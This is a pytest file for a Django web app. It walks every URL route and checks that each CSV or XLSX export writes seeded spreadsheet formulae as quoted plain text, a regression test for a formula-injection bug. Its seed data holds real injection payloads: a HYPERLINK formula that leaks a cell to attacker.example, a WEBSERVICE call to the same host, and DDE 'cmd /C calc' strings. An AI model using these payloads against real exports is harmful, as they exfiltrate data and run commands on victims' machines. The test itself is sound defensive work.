"""Every spreadsheet export, found by its Content-Type, writes formulae as plain text.

The test does not keep a list of exports to check: it asks every URL pattern for its page as
the person who convened, leads and reviews everything seeded here, and checks each response
that comes back as CSV or XLSX. The seeded words are what an attacker would type: a statement,
a framework's name, an organisation's and a payer's name that a spreadsheet would run as a
formula (issue 20: label-reviews.csv and the social value report.csv let them through).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import dataclass
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from commonground.engagement import services as engagement
from commonground.organisations.records import OrganisationRecord, SectorClaim
from commonground.organisations.services import organisations_upsert
from commonground.social_value import services as social_value
from commonground.social_value.importer import FrameworkDetails, framework_import
from commonground.social_value.models import Measure
from tests.accounts.factories import UserFactory
from tests.money.factories import MoneyFlowFactory
from tests.partnerships.factories import MemberFactory, PartnershipFactory
from tests.places.factories import PlaceFactory

FORMULAE = {
    "statement": '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the report")',
    "organisation": "+SUM(1+1)*cmd|' /C calc'!A0 Trust (synthetic)",
    "payer": "-2+3+cmd|' /C calc'!A0",
    "recipient": "@SUM(1+1)*cmd|' /C calc'!A0",
    "purpose": "\t=1+1",
    "framework": '=WEBSERVICE("http://attacker.example/")',
    "measure": "\r=1+1",
}
SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml")
# The exports issue 20 knew of; the walk must find each of them (so it cannot pass by finding
# none), and fails on any other it finds that lets a formula through.
KNOWN_EXPORTS = (
    "/organisations/download.csv",
    "/places/E08000009/profile.csv",
    "/money/flows.csv",
    "/social-value/report.csv",
    "/label-reviews.csv",
)
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _PLAIN_NUMBER.fullmatch(cell)


@dataclass
class Seeded:
    person: Any
    ids: dict[str, Any]  # URL keyword -> value
    by_prefix: dict[str, int]  # first part of the path -> the object a bare <pk> names


def _framework_file(tmp_path) -> Any:
    path = tmp_path / "framework.csv"
    rows = [
        "theme_code,theme_name,outcome_code,outcome_name,measure_code,measure_name,unit",
        f'T1,Jobs,O1,Local jobs,M1,"{FORMULAE["measure"]}",people',
    ]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def seeded(db, tmp_path) -> Seeded:
    person = UserFactory()
    place = PlaceFactory()
    record = OrganisationRecord(
        dataset="synthetic_test",
        record_key="GB-CHC-9999999",
        raw={"synthetic": True},
        identifiers=["GB-CHC-9999999"],
        name=FORMULAE["organisation"],
        sector_claims=[SectorClaim("charity", "test", "charity", "synthetic test record")],
    )
    organisations_upsert([record], None)
    flow = MoneyFlowFactory(
        place=place,
        payer_name=FORMULAE["payer"],
        recipient_name=FORMULAE["recipient"],
        purpose=FORMULAE["purpose"],
        amount_pence=-1250,  # a refund: stays a number in the export
    )
    partnership = PartnershipFactory(place=place, created_by=person)
    MemberFactory(partnership=partnership, user=person, role="lead")
    run = framework_import(
        _framework_file(tmp_path),
        FrameworkDetails(slug="attack", version="1", name=FORMULAE["framework"], licence="OGL"),
    )
    assert run.status == "succeeded", run.error
    measure = Measure.objects.get(framework__slug="attack", code="M1")
    commitment = social_value.commitment_create(
        person,
        partnership,
        measure=measure,
        quantity=3,
        unit=measure.unit,
        period_start=dt.date(2026, 4, 1),
        period_end=dt.date(2027, 3, 31),
    )
    conversation = engagement.conversation_create(
        person, title="Round table (synthetic)", kind="round_table", prompt="What matters?"
    )
    statement = engagement.statement_add(
        person, conversation, text=FORMULAE["statement"], perspective="community"
    )
    engagement.statement_review(
        person, statement, orientation="purpose", concepts=[], principles=[], methodologies=[]
    )
    return Seeded(
        person=person,
        ids={
            "gss_code": place.gss_code,
            "org_id": "GB-CHC-9999999",
            "partnership_id": partnership.pk,
            "commitment_id": commitment.pk,
            "framework_id": measure.framework_id,
            "conversation_id": conversation.pk,
            "statement_id": statement.pk,
            "flow_id": flow.pk,
        },
        by_prefix={
            "conversations": conversation.pk,
            "statements": statement.pk,
            "partnerships": partnership.pk,
            "money": flow.pk,
        },
    )


def _cells(response: Any) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]
    sheets = load_workbook(io.BytesIO(body), read_only=True)
    return [
        str(cell)
        for sheet in sheets.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]


@pytest.mark.django_db
def test_every_spreadsheet_export_writes_formulae_as_plain_text(
    seeded: Seeded, site_routes: list[tuple[str, Any]], route_paths: Any
) -> None:
    client = Client()
    client.force_login(seeded.person)
    exports: dict[str, list[str]] = {}
    for route, _ in site_routes:
        for path in route_paths(route, seeded.ids, seeded.by_prefix):
            response = client.get(path)
            if response.status_code == 200 and response["Content-Type"].startswith(
                SPREADSHEET_TYPES
            ):
                exports[path] = _cells(response)

    missing = [known for known in KNOWN_EXPORTS if not any(p.endswith(known) for p in exports)]
    assert not missing, f"these exports were not reached: {missing}"
    unguarded = {path: [c for c in cells if runs_as_formula(c)] for path, cells in exports.items()}
    assert not any(unguarded.values()), f"cells a spreadsheet would run: {unguarded}"
    # The attacker's words reached every known export, written as text.
    for known in KNOWN_EXPORTS:
        cells = next(cells for path, cells in exports.items() if path.endswith(known))
        assert any(cell[:1] == "'" and cell[1:] in FORMULAE.values() for cell in cells), (
            f"{known} holds none of the seeded formulae"
        )
